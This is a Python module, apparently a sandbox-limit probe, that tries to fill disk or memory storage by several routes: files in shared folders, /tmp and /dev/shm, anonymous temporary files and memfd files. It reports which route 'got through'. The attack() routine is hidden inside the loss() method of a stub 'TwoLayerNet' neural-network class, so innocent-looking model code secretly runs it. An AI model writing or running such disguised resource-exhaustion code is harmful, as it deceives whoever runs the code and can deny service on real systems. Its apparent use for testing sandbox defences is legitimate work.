"""Fills the disk: many files, each under the limit, in folders that everybody may write and in memory files."""

import os

from world import FOLDER

ENOUGH = 4 << 20
PIECE = 512 << 10


def in_folder(folder):
    written = 0
    names = [f"{folder}/{os.urandom(4).hex()}" for _ in range(ENOUGH // PIECE)]
    try:
        for name in names:
            with open(name, "xb") as file:
                written += file.write(bytes(PIECE))
    finally:
        for name in names:
            if os.path.exists(name):
                os.unlink(name)
    return f"{written} bytes in {folder}"


def by_nameless_files():
    files = [os.open(FOLDER, os.O_TMPFILE | os.O_WRONLY) for _ in range(ENOUGH // PIECE)]
    return sum(os.write(file, bytes(PIECE)) for file in files)


def by_memory_files():
    files = [os.memfd_create("mine") for _ in range(ENOUGH // PIECE)]
    return sum(os.write(file, bytes(PIECE)) for file in files)


WAYS = {
    "folder": lambda: in_folder(FOLDER),
    "temporary folder": lambda: in_folder("/tmp"),
    "shared memory": lambda: in_folder("/dev/shm"),
    "nameless files": by_nameless_files,
    "memory files": by_memory_files,
}


def attack():
    refusal = None
    for name, way in WAYS.items():
        try:
            got = way()
        except Exception as error:
            refusal = refusal or error
            continue
        if got:
            print("GOT THROUGH:", name, got)
            return
    raise refusal or LookupError("found nothing")


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
